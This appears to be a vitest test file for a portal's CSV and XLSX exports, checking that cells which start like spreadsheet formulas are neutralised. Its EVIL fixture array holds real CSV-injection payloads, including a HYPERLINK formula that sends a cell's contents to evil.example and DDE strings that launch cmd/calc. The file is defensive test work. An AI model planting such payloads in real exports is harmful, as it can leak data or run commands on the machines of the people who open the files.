// CSV injection (issue 16, defect 8): every CSV the portal writes neutralises cells that a
// spreadsheet would run as a formula, and the XLSX export stores such text as text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { eq } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from '../../src/shared/csv.js';
import { fileReport, updateReport } from '../../src/reports/index.js';
import { regions } from '../../src/regions/tables.js';
import { findUnitByKey } from '../../src/units/index.js';
import { addDays, todayInChina } from '../../src/clocks/index.js';
import { insertItem } from '../../src/ledger/repository.js';
import { makeApp, type TestApp } from '../helpers/app.js';
import { createStaff, signIn } from '../helpers/staff.js';

const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('neutraliseCell', () => {
  it('prefixes a single quote to every formula-like start, and leaves other text and plain numbers alone', () => {
    for (const v of EVIL) expect(neutraliseCell(v)).toBe(`'${v}`);
    expect(neutraliseCell('南岭街道')).toBe('南岭街道');
    expect(neutraliseCell('a=1')).toBe('a=1');
    expect(neutraliseCell('-3')).toBe('-3');
    expect(neutraliseCell('-12.5%')).toBe('-12.5%');
    expect(neutraliseCell(-4)).toBe('-4');
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell('-')).toBe("'-");
  });

  it('writes a BOM and reads back as the neutralised text', () => {
    const text = toCsv([['a', 'b'], [EVIL[0], '1']]);
    expect(text.startsWith('\ufeff')).toBe(true);
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows[1]).toEqual([`'${EVIL[0]}`, '1']);
  });
});

let t: TestApp;
beforeAll(async () => {
  t = await makeApp();
});
afterAll(() => t.close());

/** Every data cell of a CSV body: none may start like a formula. */
function formulaCells(body: string): string[] {
  return (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat().filter((c) => /^[=+\-@\t\r]/.test(c));
}

describe('CSV routes', () => {
  it('/ledger.csv neutralises a problem, measures and progress typed as formulas; /ledger.xlsx stores them as text', async () => {
    const unit = (await findUnitByKey(t.app.db, 'ca:220102'))!;
    const now = Date.now();
    await insertItem(t.app.db, { reportId: null, source: 'spot_check', regionCode: '220102', problem: EVIL[0]!, measures: EVIL[3]!, unitId: unit.id, responsiblePerson: '科长', deadline: addDays(todayInChina(), 10), status: 'not_started', createdBy: null, createdAt: now, updatedAt: now });
    const csv = await t.app.inject('/ledger.csv?region=220102');
    expect(csv.statusCode).toBe(200);
    expect(formulaCells(csv.body)).toEqual([]);
    const rows = parse(csv.body, { bom: true, columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r['问题']?.includes('HYPERLINK'))!;
    expect(row['问题']).toBe(`'${EVIL[0]}`);
    expect(row['整改措施']).toBe(`'${EVIL[3]}`);

    const xlsx = await t.app.inject('/ledger.xlsx?region=220102');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    let cell: ExcelJS.Cell | undefined;
    book.worksheets[0]!.eachRow((r) => r.eachCell((c) => {
      if (String(c.value).includes('HYPERLINK')) cell = c;
    }));
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(EVIL[0]);
    expect(cell?.formula).toBeUndefined();
    // No formula element anywhere in the sheet as written.
    const zip = await JSZip.loadAsync(xlsx.rawPayload);
    const sheets = Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/sheet'));
    for (const n of sheets) expect(await zip.file(n)!.async('string')).not.toMatch(/<f[ >]/);
  });

  it('/staff/reports.csv neutralises a staff name that starts like a formula', async () => {
    const evilStaff = await createStaff(t.app, 'ca:220102', ['handler'], { displayName: EVIL[2] });
    const intake = await signIn(t.app, await createStaff(t.app, 'ca:220102', ['intake']));
    const filed = await fileReport(
      t.app.deps,
      { category: 'favouritism', placeCode: '220102001001', placeOther: null, countyCode: '220102', townshipCode: '220102001', subjectName: '王德福', subjectPosition: 'village_cadre', subjectIsHead: false, description: '村主任把他弟弟一家评成了低保户。', happenedAt: null, identity: null } as never,
      [],
      { channel: 'online', nonce: null },
    );
    await updateReport(t.app.db, filed.report.id, { assigneeId: evilStaff.user.id });
    const csv = await intake.get('/staff/reports.csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'${EVIL[2]}`);
    expect(formulaCells(csv.body)).toEqual([]);
  });

  it('/stats.csv neutralises a region name that starts like a formula', async () => {
    await t.app.db.update(regions).set({ name: EVIL[1]! }).where(eq(regions.code, '220102002')).run();
    const csv = await t.app.inject('/stats.csv?region=220102');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`'${EVIL[1]}`);
    expect(formulaCells(csv.body)).toEqual([]);
  });

  it('the import templates are plain header rows', async () => {
    const { recipientTemplateCsv } = await import('../../src/disclosure/recipient-import.js');
    const { declarationTemplateCsv } = await import('../../src/cross-checks/declaration-file.js');
    for (const csv of [recipientTemplateCsv(), declarationTemplateCsv()]) {
      const text = csv.toString('utf8');
      expect(text.startsWith('\ufeff')).toBe(true);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(formulaCells(text)).toEqual([]);
    }
  });
});
